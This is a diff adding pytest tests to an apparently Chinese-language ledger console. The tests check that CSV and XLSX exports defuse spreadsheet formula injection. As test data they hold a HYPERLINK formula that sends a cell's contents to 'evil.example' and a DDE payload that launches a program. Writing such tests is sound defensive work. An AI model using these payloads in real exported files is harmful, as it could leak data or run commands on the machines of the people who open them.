@@ -3,6 +3,7 @@ sign-in tokens (no server)."""
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 from datetime import datetime
@@ -11,6 +12,7 @@ import pytest
 
 from esledger.console import charts, exports, forms, session, views
 from esledger.domain.organisations import Organisations, Unit
+from esledger.domain.statistics import StatRow, statistics_csv
 
 NOW = datetime.fromisoformat("2026-10-10T12:00:00+08:00")
 
@@ -177,3 +179,22 @@ def test_chart_groups_sum_per_month_or_show_units_and_leave_out_empty_groups() -
     ]
     assert views.chart_groups(rows, ["n"], by_unit=False) == (["2026-09"], {"n": [3]})
     assert views.chart_groups(rows[:2], ["n"], by_unit=True) == (["乙", "甲"], {"n": [2, 1]})
+
+
+def test_downloads_never_hand_a_spreadsheet_a_formula() -> None:
+    """Unit names come from posted events: ``=HYPERLINK(...)`` in one once became a live formula in the
+    statistics XLSX and a formula cell in the cases CSV (OWASP "CSV Injection")."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
+    text = exports.csv_text(["单位", "数"], [[evil, 3], ["-1+1", -1], ["@SUM(A1)", 0], ["荆州市", 2]])
+    rows = list(csv.reader(io.StringIO(text.removeprefix(exports.BOM))))
+    assert [r[0] for r in rows[1:]] == ["'" + evil, "'-1+1", "'@SUM(A1)", "荆州市"]
+    assert [r[1] for r in rows[1:]] == ["3", "-1", "0", "2"]  # numbers stay numbers
+    book = zipfile.ZipFile(io.BytesIO(exports.xlsx_bytes("统计", ["单位"], [[evil]])))
+    sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "HYPERLINK" in book.read("xl/sharedStrings.xml").decode()
+
+
+def test_the_apis_statistics_csv_quotes_formula_like_unit_names() -> None:
+    row = StatRow(unit_code="X", unit_name="+cmd|' /C calc'!A0", month="2026-03", counts={}, findings_by_article={})
+    line = statistics_csv([row]).splitlines()[1]
+    assert "'+cmd|" in line
